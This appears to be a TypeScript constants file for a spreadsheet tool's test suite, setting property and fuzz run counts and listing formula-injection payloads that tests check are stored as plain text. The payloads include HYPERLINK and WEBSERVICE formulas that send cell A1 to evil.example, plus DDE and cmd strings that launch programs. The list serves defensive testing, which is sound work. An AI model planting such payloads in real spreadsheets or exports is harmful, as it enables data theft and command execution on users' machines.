/**
 * The number of generated cases per property and fuzz target. docs/RELIABILITY.md reports these
 * figures, and tests/docs/reliability-doc.test.ts keeps the two in step.
 */
export const PROPERTY_RUNS = {
  "monotone-potential": 5000,
  "monotone-score": 5000,
  "interchangeable-demand-fit-local": 3000,
  "investment-mirror": 3000,
  "spellings": 5000,
  "numbers-as-text": 2000,
  "range-equals-cells": 1000,
  "language-only-label": 2000,
} as const;

export const FUZZ_RUNS = {
  potential: 4000,
  score: 4000,
  explain: 3000,
} as const;

/** Sizes (cells per criterion argument) of the linear-reads check, per function and input mix. */
export const LINEAR_SIZES = [1, 10, 100, 10_000] as const;

/**
 * Issue 5, item 3: real formula-injection payloads. Every one is written through a colleague's
 * JSON and through the report (first import and an updating re-import) and must land as text.
 */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  // Full-width equals sign (U+FF1D): guarded, see docs/RELIABILITY.md.
  "＝1+1",
  // A leading space: Excel keeps it as text; left unguarded, see docs/RELIABILITY.md.
  " =1+1",
] as const;
